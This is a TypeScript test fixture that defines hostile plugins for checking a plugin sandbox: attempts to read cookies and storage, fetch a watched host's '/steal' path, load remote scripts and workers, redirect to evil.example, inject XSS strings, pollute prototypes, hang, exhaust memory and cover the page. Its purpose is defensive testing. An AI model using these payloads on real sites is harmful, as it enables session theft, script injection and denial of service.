import type { HostilePlugin } from './hostilePlugin.ts'

/** Renders the outcome of each attempt for a test to read. */
const attempts = (parts: Record<string, string>): string => `
  const [told, tell] = useState('…')
  useEffect(() => {
    const attempts = { ${Object.entries(parts)
      .map(([name, code]) => `${JSON.stringify(name)}: async () => { ${code} }`)
      .join(', ')} }
    Promise.all(Object.entries(attempts).map(async ([name, attempt]) => {
      try { return name + ': got ' + String(await attempt()) }
      catch (error) { return name + ': refused' }
    })).then((lines) => tell(lines.join('; ')))
  }, [])
  return h('output', null, told)`

export const COOKIES: HostilePlugin = {
  name: 'cookies',
  draw: attempts({
    cookies: 'return document.cookie',
    storage: 'return localStorage.length',
    session: 'return sessionStorage.length',
    database: 'return indexedDB.open("x").then((x) => x)',
    parent: 'return window.parent.document.title',
    kept: 'return window.top.localStorage.length',
  }).replace(
    'indexedDB.open("x").then((x) => x)',
    'new Promise((yes, no) => { const r = indexedDB.open("x"); r.onsuccess = () => yes("db"); r.onerror = no })',
  ),
}

/** Calls the console's origin and a host the test watches, and tries other ways past the policy. */
export const network = (host: string): HostilePlugin => ({
  name: 'network',
  draw: attempts({
    call: 'return (await fetch("/v2/users/me")).status',
    elsewhere: `return (await fetch("http://${host}/steal")).status`,
    picture: `return new Promise((yes, no) => { const image = new Image(); image.onload = () => yes("seen"); image.onerror = no; image.src = "http://${host}/picture.png" })`,
    script: `return new Promise((yes, no) => { const script = document.createElement("script"); script.onload = () => yes("run"); script.onerror = no; script.src = "http://${host}/a.js"; document.head.append(script) })`,
    socket: `return new Promise((yes, no) => { const socket = new WebSocket("ws://${host}/"); socket.onopen = () => yes("open"); socket.onerror = no })`,
    peers: 'return new RTCPeerConnection().connectionState',
    code: 'return (0, eval)("1 + 1")',
    worker: `return new Worker("http://${host}/w.js") && "made"`,
    // Nothing here shows whether it was sent: only the watched host knows.
    report: `const image = new Image(); image.setAttribute("attributionsrc", "http://${host}/report"); image.src = "data:,"; return "tried"`,
  }),
})

export const REDIRECTS: HostilePlugin = {
  name: 'redirects',
  draw: attempts({
    top: 'window.top.location.href = "http://evil.example/"; return "left"',
    opens: 'return window.open("http://evil.example/") === null ? Promise.reject() : "opened"',
  }),
}

/** Navigates its own frame to another page. */
export const LEAVES: HostilePlugin = {
  name: 'leaves',
  draw: `useEffect(() => { window.location.href = 'about:blank' }, [])
  return h('output', null, 'leaving')`,
}

/** Hangs during its first render. */
export const LOOPS: HostilePlugin = {
  name: 'loops',
  draw: `for (;;) Math.random()`,
}

export const ALLOCATES: HostilePlugin = {
  name: 'allocates',
  draw: `const all = []; for (;;) all.push(new Float64Array(2_000_000).fill(1))`,
}

export const THROWS_AT_LOAD: HostilePlugin = {
  name: 'throws-at-load',
  atLoad: `throw new Error('no load')`,
  draw: `return null`,
}

export const THROWS_AT_RENDER: HostilePlugin = {
  name: 'throws-at-render',
  draw: `throw new Error('no render')`,
}

/** Renders fine, then throws on unmount. */
export const THROWS_AT_UNMOUNT: HostilePlugin = {
  name: 'throws-at-unmount',
  draw: `useEffect(() => () => { throw new Error('no unmount') }, [])
  return h('output', null, 'drawn')`,
}

/** Uses its capabilities as fast as it can. */
export const FLOODS: HostilePlugin = {
  name: 'floods',
  manifest: { capabilities: ['hover-time', 'navigate'] },
  draw: `useEffect(() => {
    const timer = setInterval(() => {
      for (let i = 0; i < 500; i += 1) {
        props.actions.setViewState({ i })
        props.actions.navigate({ to: 'flood' + i })
      }
    }, 20)
    return () => clearInterval(timer)
  }, [])
  return h('output', null, 'flooding')`,
}

export const POLLUTES: HostilePlugin = {
  name: 'pollutes',
  draw: `Object.prototype.polluted = 'yes'
  Array.prototype.map = () => ['nothing']
  return h('output', null, 'polluted ' + String({}.polluted))`,
}

export const OVERLAYS: HostilePlugin = {
  name: 'overlays',
  draw: `useEffect(() => {
    const cover = document.createElement('div')
    cover.id = 'cover'
    cover.style.cssText = 'position:fixed;inset:0;z-index:99999;background:red'
    document.body.append(cover)
  }, [])
  return h('output', null, 'covered')`,
}

const SCRIPT = '<img src=x onerror="window.wasRun=1"><svg onload="window.wasRun=1"></svg>'

/** Puts script into every text it may set. */
export const WRITES_SCRIPT: HostilePlugin = {
  name: 'writes-script',
  manifest: {
    title: { en: `Widget ${SCRIPT}`, es: SCRIPT },
    description: { en: SCRIPT, es: SCRIPT },
  },
  readme: `# Read me ${SCRIPT}\n\n<script>window.wasRun=1</script>\n\n[a link](javascript:window.wasRun=1)\n`,
  draw: `useEffect(() => {
    const place = document.createElement('div')
    place.innerHTML = ${JSON.stringify(SCRIPT)}
  }, [])
  return h('output', null, ${JSON.stringify(SCRIPT)})`,
}

/** Asks for alerts, which its manifest does not declare. */
export const OVERREACHES: HostilePlugin = {
  name: 'overreaches',
  manifest: { data: ['status'] },
  needs: `[{ kind: 'status' }, { kind: 'alerts', limit: 5 }]`,
  draw: `return h('output', null, 'got ' + JSON.stringify(props.data.alerts))`,
}
